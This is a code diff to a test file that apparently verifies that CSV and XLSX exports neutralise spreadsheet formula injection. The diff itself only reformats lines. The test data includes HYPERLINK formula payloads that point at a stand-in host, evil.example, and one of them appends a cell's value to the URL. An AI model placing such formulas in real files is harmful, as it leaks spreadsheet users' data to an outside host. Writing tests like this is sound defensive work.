@@ -14,7 +14,10 @@ import { Tables } from '../../src/store/tables';
  * out of the CSV export as text (behind a quote), and out of the XLSX export
  * as plain string cells.
  */
-const env = { STORAGE_CONNECTION_STRING: process.env.TEST_STORAGE_CONNECTION_STRING, TABLE_PREFIX: 'inj' + randomBytes(4).toString('hex') };
+const env = {
+  STORAGE_CONNECTION_STRING: process.env.TEST_STORAGE_CONNECTION_STRING,
+  TABLE_PREFIX: 'inj' + randomBytes(4).toString('hex'),
+};
 const storage = storesOver(new Tables(connectionStringFactory(env.STORAGE_CONNECTION_STRING!), env.TABLE_PREFIX));
 const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'inj-'));
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Report")';
@@ -43,7 +46,9 @@ beforeAll(async () => {
     now: new Date(),
   });
   expect(replies.length).toBeGreaterThan(0);
-  expect((await storage.actions.get('inj', 'INJ-2'))!.value.latestUpdate?.text).toBe('+HYPERLINK("http://evil.example","click")');
+  expect((await storage.actions.get('inj', 'INJ-2'))!.value.latestUpdate?.text).toBe(
+    '+HYPERLINK("http://evil.example","click")',
+  );
 });
 
 test('the CSV export neutralises formula-like text from imports and from chat', async () => {
